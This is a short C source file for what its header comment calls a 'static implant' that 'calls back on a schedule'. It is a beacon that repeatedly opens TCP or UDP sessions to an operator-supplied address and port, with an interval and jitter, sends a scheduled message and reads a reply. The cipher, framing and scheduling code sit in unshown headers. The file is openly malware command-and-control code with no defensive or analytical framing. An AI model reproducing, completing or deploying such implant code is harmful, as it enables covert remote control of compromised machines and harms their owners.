/*
 * AN0401: a static implant with a cipher of its own that calls back on a schedule, each time in a session of its own.
 * usage: beacon tcp|udp ADDRESS PORT COUNT INTERVAL JITTER
 */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "frames.h"
#include "link.h"
#include "schedule.h"

int main(int argc, char **argv)
{
	struct schedule plan;
	char text[512];

	if (argc != 7)
		return 64;
	plan = schedule_of(argv + 4);
	for (int i = 0; i < plan.count; i++) {
		int datagrams = strcmp(argv[1], "udp") == 0;
		struct frames f;

		if (i > 0)
			schedule_wait(&plan);
		frames_begin(&f, link_open(argv[2], argv[3], datagrams ? SOCK_DGRAM : SOCK_STREAM), datagrams);
		frames_send(&f, text, (size_t)schedule_says(&plan, i, text, sizeof(text)));
		if (frames_receive(&f, text, sizeof(text)) < 0)
			return 1;
		close(f.fd);
	}
	return 0;
}
